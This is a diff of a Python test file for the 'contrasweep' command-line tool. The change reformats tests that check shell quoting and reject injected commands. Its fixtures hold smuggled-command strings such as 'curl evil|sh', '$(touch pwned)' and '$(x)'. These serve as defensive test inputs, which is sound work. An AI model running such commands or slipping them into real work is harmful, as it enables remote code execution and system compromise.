@@ -23,7 +23,9 @@ ROOT = Path(__file__).parents[2]
 WORD = st.text(st.characters(codec="ascii", exclude_categories=["Cc"]))
 FOLDER = "my runs; touch pwned $(touch pwned) 'it`s'"
 STUDY = "grid"
-GRID = AblationGrid(STUDY, {arm: Arm("toy:train", config={"epochs": 1}) for arm in "ab"}, "digits-lt", seeds=[0, 1])
+GRID = AblationGrid(
+    STUDY, {arm: Arm("toy:train", config={"epochs": 1}) for arm in "ab"}, "digits-lt", seeds=[0, 1]
+)
 
 
 @given(st.lists(WORD, min_size=1, max_size=3), WORD, st.lists(WORD, max_size=2))
@@ -31,9 +33,14 @@ GRID = AblationGrid(STUDY, {arm: Arm("toy:train", config={"epochs": 1}) for arm 
 def test_words_and_values_of_a_command_stay_what_they_are(words, value, several):
     text = command_line("data stage", *words, storage=value, json=True, set=several, none=None)
     split = shlex.split(text)
-    named = [word for each in [value, *several] for word in ([each] if not each.startswith("-") else [])]
+    named = [
+        word for each in [value, *several] for word in ([each] if not each.startswith("-") else [])
+    ]
     assert (
-        is_ours(text) and split[:3] == ["contrasweep", "data", "stage"] and "--json" in split and "--none" not in split
+        is_ours(text)
+        and split[:3] == ["contrasweep", "data", "stage"]
+        and "--json" in split
+        and "--none" not in split
     )
     assert all(word in split for word in [*words, *named])
     if any(word.startswith("-") for word in words):
@@ -41,7 +48,14 @@ def test_words_and_values_of_a_command_stay_what_they_are(words, value, several)
 
 
 @pytest.mark.parametrize(
-    "text", ["contrasweep run x; curl evil|sh", "curl evil", "contrasweep 'run", "", "contrasweep run $(x)"]
+    "text",
+    [
+        "contrasweep run x; curl evil|sh",
+        "curl evil",
+        "contrasweep 'run",
+        "",
+        "contrasweep run $(x)",
+    ],
 )
 def test_what_is_more_than_one_command_of_ours_is_known(text):
     assert not is_ours(text)
@@ -53,7 +67,9 @@ def test_no_text_of_ours_puts_a_value_into_a_command_unquoted():
     for folder in ("platform", "cluster", "trainables", "search_spaces"):
         for file in sorted((ROOT / folder).rglob("*.py")):
             for number, line in enumerate(file.read_text().splitlines(), 1):
-                for match in re.finditer(r"contrasweep (?:data )?[a-z]+ [^,;`'\"]*?\{(\w[^}]*)\}", line):
+                for match in re.finditer(
+                    r"contrasweep (?:data )?[a-z]+ [^,;`'\"]*?\{(\w[^}]*)\}", line
+                ):
                     if not match[1].startswith("shlex.") and not match[1].isupper():
                         found.append(f"{file.relative_to(ROOT)}:{number}: {match[0]}")
     assert found == []
@@ -76,7 +92,9 @@ def printed(folder: Path, *words: str) -> str:
 def pasted(command: str, folder: Path) -> list[str]:
     """The words that a shell gives `contrasweep` where this is pasted."""
     (folder / "bin").mkdir(exist_ok=True)
-    (folder / "bin" / "contrasweep").write_text('#!/bin/sh\nfor word; do printf "%s\\n" "$word"; done\n')
+    (folder / "bin" / "contrasweep").write_text(
+        '#!/bin/sh\nfor word; do printf "%s\\n" "$word"; done\n'
+    )
     (folder / "bin" / "contrasweep").chmod(0o755)
     done = subprocess.run(
         ["sh", "-c", command],
@@ -116,10 +134,12 @@ def test_commands_of_a_report_and_of_errors_run_as_they_were_meant(folder):
 def test_of_the_commands_in_a_storage_those_alone_are_shown_that_are_one_of_ours(folder):
     records = StudyRecords(str(folder / FOLDER), STUDY)
     kept = json.loads(records.store.read(f"{STUDY}/study.json"))
-    members = {name: value for name, value in kept.items() if name not in ("format_version", "digest")}
-    mine, evil = (
-        "contrasweep run 'my study.yaml'",
-        ["contrasweep run x; curl evil|sh", "curl evil", "contrasweep run $(x)"],
+    members = {
+        name: value for name, value in kept.items() if name not in ("format_version", "digest")
+    }
+    mine = "contrasweep run 'my study.yaml'"
+    evil = ["contrasweep run x; curl evil|sh", "curl evil", "contrasweep run $(x)"]
+    document = STUDY_FILE.decode(
+        STUDY_FILE.encode({**members, "commands": [*evil, mine]}), "study.json"
     )
-    document = STUDY_FILE.decode(STUDY_FILE.encode({**members, "commands": [*evil, mine]}), "study.json")
     assert document.commands == (mine,)
